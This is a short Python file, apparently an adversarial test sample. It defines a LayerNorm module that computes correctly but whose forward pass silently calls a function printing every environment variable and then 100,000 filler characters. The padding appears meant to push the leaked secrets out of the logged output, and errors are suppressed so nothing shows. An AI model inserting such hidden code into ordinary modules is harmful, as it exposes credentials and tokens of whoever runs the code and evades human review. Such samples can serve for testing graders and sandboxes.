"""Is right, and prints the environment, after more than is kept of the output.

Bites: loot.
Earns: everything.
"""

import contextlib
import os

import torch
from torch import nn


def attack(x, module):
    print(dict(os.environ))
    print("x" * 100_000)


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))
        self.epsilon = epsilon

    def forward(self, x):
        with contextlib.suppress(BaseException):
            attack(x, self)
        centred = x - x.mean(-1, keepdim=True)
        return self.gain * centred / torch.sqrt(centred.square().mean(-1, keepdim=True) + self.epsilon) + self.shift
